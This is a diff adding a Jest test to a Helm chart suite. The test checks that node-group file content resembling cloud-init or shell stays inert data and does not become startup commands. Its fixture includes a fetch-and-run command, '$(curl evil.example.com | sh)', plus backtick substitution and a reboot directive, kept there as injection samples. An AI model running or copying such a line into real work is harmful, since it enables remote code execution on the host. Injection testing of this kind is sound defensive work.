@@ -82,6 +82,15 @@ describe.each(HELM_MAJORS)('node groups under Helm %i', (major) => {
     expect(vm.template.spec.evictionStrategy).toBe('External');
   });
 
+  it('keeps file content that looks like cloud-init or shell as inert file data', async () => {
+    const content = 'x: 1\nruncmd: [reboot]\n$(curl evil.example.com | sh)\n`id`; echo "quoted" \'single\'\n';
+    const docs = await renderChart('kubernetes', { major, values: { nodeGroups: { workers: { files: [{ path: '/etc/app.conf', content }] } } } });
+    const spec = ofKind(docs, 'KubeadmConfigTemplate')[0]!.spec.template.spec;
+    expect(spec.files).toEqual([{ path: '/etc/app.conf', content, permissions: '0644', owner: 'root:root' }]);
+    expect(spec).not.toHaveProperty('runcmd');
+    expect(spec).not.toHaveProperty('preKubeadmCommands');
+  });
+
   it('creates the VMs in the release namespace, spread over management hosts per group', async () => {
     const docs = await renderChart('kubernetes', { major, release: 'blue', namespace: 'team-blue', values: { nodeGroups: { a: {}, b: {} } } });
     for (const kmt of ofKind(docs, 'KubevirtMachineTemplate')) {
